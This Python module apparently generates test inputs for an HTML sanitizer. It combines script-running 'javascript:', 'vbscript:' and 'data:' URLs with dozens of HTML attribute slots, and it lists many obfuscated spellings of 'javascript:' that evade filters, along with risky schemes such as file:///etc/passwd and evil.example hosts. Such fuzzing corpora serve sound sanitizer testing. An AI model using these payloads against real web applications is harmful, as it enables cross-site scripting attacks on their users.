"""Addresses that run: schemes, ways to hide them, and the places an address may stand in."""

from __future__ import annotations

from collections.abc import Iterator

_PLACES = (
    *('<a href="{}">words</a>', "<a href='{}'>words</a>", '<area href="{}" shape=default>'),
    *('<map name=m><area href="{}" shape=default></map><img usemap=#m src=@img@>',),
    *('<a xlink:href="{}">words</a>', '<svg><a href="{}"><text y=9>words</text></a></svg>'),
    *(
        '<svg><a xlink:href="{}"><text y=9>words</text></a></svg>',
        '<form action="{}"><button>b</form>',
    ),
    *(
        '<form><button formaction="{}">b</button></form>',
        '<form><input type=submit formaction="{}"></form>',
    ),
    *('<form><input type=image src=@img@ formaction="{}"></form>', '<iframe src="{}"></iframe>'),
    *('<frameset><frame src="{}"></frameset>', '<object data="{}"></object>', '<embed src="{}">'),
    *(
        '<img src="{}">',
        '<img src=x longdesc="{}">',
        '<img src=x lowsrc="{}">',
        '<img dynsrc="{}">',
    ),
    *(
        '<input type=image src="{}">',
        '<link rel=stylesheet href="{}">',
        '<link rel=import href="{}">',
    ),
    *('<base href="{}"><a href=x>words</a>', '<meta http-equiv=refresh content="0;url={}">'),
    *(
        '<q cite="{}">words</q>',
        '<blockquote cite="{}">words</blockquote>',
        '<ins cite="{}">w</ins>',
    ),
    *(
        '<del cite="{}">words</del>',
        '<video src="{}" poster="{}"></video>',
        '<audio src="{}"></audio>',
    ),
    *(
        '<table background="{}"><tr><td>w</table>',
        '<body background="{}">',
        '<math href="{}">w</math>',
    ),
    *(
        '<math><mi xlink:href="{}">w</mi></math>',
        '<a href=x ping="{}">words</a>',
        '<p itemid="{}">w</p>',
    ),
    *('<applet codebase="{}" code=x></applet>', '<a href="{}" target=_blank>words</a>'),
    *('<a href="{}" download>words</a>', '<a href="{}" rel=opener target=x>words</a>'),
    *('<img src="{}" srcset="{} 1x">', '<picture><source srcset="{}"><img src=x></picture>'),
)
_RUNNING = (
    "javascript:@run@",
    "data:text/html,<script>@run@</script>",
    "vbscript:@run@",
)
# Ways to write "javascript:" that some browser, at some time, has taken for it.
_HIDDEN = (
    *(
        "JAVASCRIPT:",
        "JaVaScRiPt:",
        " javascript:",
        "\tjavascript:",
        "\njavascript:",
        "\rjavascript:",
    ),
    *(
        "\x01javascript:",
        "\x0bjavascript:",
        "\x0cjavascript:",
        "\x1fjavascript:",
        "\x7fjavascript:",
    ),
    *(
        "\0javascript:",
        "java\0script:",
        "java\tscript:",
        "java\nscript:",
        "java\rscript:",
        "j\ta\nv\ra\tscript:",
    ),
    *("javascript\t:", "javascript\n:", "javascript :", "javascript\u00a0:", "java script:"),
    *(
        "&#106;avascript:",
        "&#x6a;avascript:",
        "&#X6A;avascript:",
        "&#0000106;avascript:",
        "&#106avascript:",
    ),
    *(
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A",
        "javascript&colon;",
        "javascript&#58;",
    ),
    *(
        "javascript&#x3a;",
        "javascript&#58",
        "javascript&#x0003A",
        "java&Tab;script:",
        "java&NewLine;script:",
    ),
    *(
        "java&#9;script:",
        "java&#10;script:",
        "java&#13;script:",
        "java&#x0A;script:",
        "java&#x09script:",
    ),
    *(
        "&Tab;javascript:",
        "&NewLine;javascript:",
        "&#1;javascript:",
        "&#14;  javascript:",
        "&#0;javascript:",
    ),
    *("&nbsp;javascript:", "&ensp;javascript:", "&ZeroWidthSpace;javascript:", "&shy;javascript:"),
    *(
        "\u200bjavascript:",
        "java\u200bscript:",
        "\ufeffjavascript:",
        "java\u00adscript:",
        "\u2028javascript:",
    ),
    *(
        "\u202ejavascript:",
        "\u2066javascript:",
        "\u180ejavascript:",
        "java\u034fscript:",
        "java\u2060script:",
    ),
    *(
        "ｊavascript:",
        "javaſcript:",
        "javascrıpt:",
        "javascript：",
        "javascript\uff1a",
        "ｊａｖａｓｃｒｉｐｔ:",
    ),
    *(
        "javascript%3a",
        "java%73cript:",
        "%6aavascript:",
        "javascript%0a:",
        "java%0ascript:",
        "%0ajavascript:",
    ),
    *(
        "javascript&amp;colon;",
        "java&amp;Tab;script:",
        "&amp;#106;avascript:",
        "javascript&amp;#58;",
    ),
    *(
        "java&amp;amp;Tab;script:",
        "javascript&amp;amp;colon;",
        "java&amp;NewLine;script:",
        "java&amp;#9;script:",
    ),
    *(
        "feed:javascript:",
        "view-source:javascript:",
        "url:javascript:",
        "jar:javascript:",
        "x:javascript:",
    ),
    *(
        "//javascript:",
        "/javascript:",
        "./javascript:",
        "\\javascript:",
        "?javascript:",
        "#javascript:",
    ),
    *(
        "https:javascript:",
        "http:/javascript:",
        "https://javascript:",
        "http://x\njavascript:",
        "`javascript:",
    ),
    *(
        "javascript://x%0a",
        "javascript://x&#10;",
        "javascript:/**/",
        "javascript:void 0;",
        "javascript:;",
    ),
    *("javascript:\u2028", "javascript:&#0;", "javascript:\\u0072an(@n@);", "javascript:x=1?2:3;"),
    *(
        "javascript:try{@run@}catch{};",
        "javascript:'\\x3cimg src=x onerror=@run@\\x3e';",
        "{javascript:",
    ),
    *(
        "javascript\\:",
        "java\\script:",
        "java/**/script:",
        "java<!-- -->script:",
        "'javascript:",
        "[javascript:",
    ),
    *(
        "javascript:javascript:",
        "jjavascript:avascript:",
        "javajavascript:script:",
        "<javascript:",
        "@javascript:",
    ),
)
_OTHERS = (
    "livescript:@run@", "mocha:@run@", "jscript:@run@", "vbs:@run@", "VBScript:@run@", "data:,@run@",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "data:text/html;charset=utf-7,+ADw-script+AD4-@run@",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@run@'/>", "data:application/xhtml+xml,x",
    "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>@run@</script></x>", "DATA:text/html,@run@",
    " data:text/html,@run@", "da\nta:text/html,<script>@run@</script>", "data&colon;text/html,@run@",
    "data:@n@", "data:image/png;base64,iVBORw0KGgo=", "blob:https://evil.example/@n@", "blob:null/@n@",
    "file:///etc/passwd", "file:1", "filesystem:https://evil.example/temporary/@n@", "about:blank",
    "about:srcdoc", "view-source:https://evil.example/", "jar:https://evil.example/x!/y", "mhtml:x!y",
    "ms-its:x", "res://x", "chrome://settings", "chrome-extension://x/y", "resource://x", "intent://x#Intent;end",
    "ws://evil.example/", "wss://evil.example/", "ftp://evil.example/", "gopher://evil.example/", "tel:+1234567",
    "sms:+1234567", "skype:x?call", "callto:x", "steam://run", "ms-settings:", "search-ms:query", "itms-services:x",
    "magnet:?xt=x", "cid:x", "mid:x", "urn:x", "tag:x", "news:x", "nntp:x", "ldap://x", "smb://x/y",
    "\\\\evil.example\\share", "//evil.example\\@x", "https:\\\\evil.example", "https://x@evil.example/",
    "https://a:b@evil.example/", "https://evil.example:99999/", "https://[::1", "https://", "https:///x",
    "http://evil.example\u2024x/", "https://evil.example\u2044x/", "https://ex\u0430mple.org\u202e/", "wyciwyg://x",
)  # fmt: skip
# bleach takes a scheme and digits for a host and a port.
_DIGITS = (
    "javascript:123", "javascript:1", "javascript:0x1", "javascript:`\u00e9\u00e9 @n@`", "javascript:\u00e9 1",
    "javascript:1\u00a02", "javascript:`1`", "javascript:'\u043f\u0440\u0438\u0432\u0435\u0442'", "javascript:1`",
    "\u00e9javascript:123", "java\u00e9script:123", "javascript:123\u200b", "javascript:\u200b123", "javascript:1/1",
    "javascript:123/", "javascript:123?", "javascript:123#x", "javascript:80:@run@", "javascript:00000",
    "vbscript:1", "data:1", "file:1", "blob:1", "jar:80", "about:80", "livescript:443", "mocha:8080",
    "JAVASCRIPT:7", "\tjavascript:7", "java\tscript:7", "javascript\n:7", "`javascript:7", "javascript`:7",
    "javascript: 7", "javascript:\u0661\u0662", "javascript:\uff11", "javascript:1\n@run@", "javascript:1,@run@",
    "javascript:\u2028@run@", "javascript:65535", "javascript:65536", "localhost:8000", "evil.example:8000",
)  # fmt: skip


def payloads() -> Iterator[str]:
    for place in _PLACES:
        for url in _RUNNING:
            yield place.replace("{}", url)
    for hidden in _HIDDEN:
        yield f'<a href="{hidden}@run@">words</a>'
    for url in (*_OTHERS, *_DIGITS):
        yield f'<a href="{url}">words</a>'
    for url in _OTHERS[:16]:
        yield f'<img src="{url}" alt=words>'
    for hidden in _HIDDEN[:48:2]:
        yield f"<a href={hidden}@run@>words</a>"
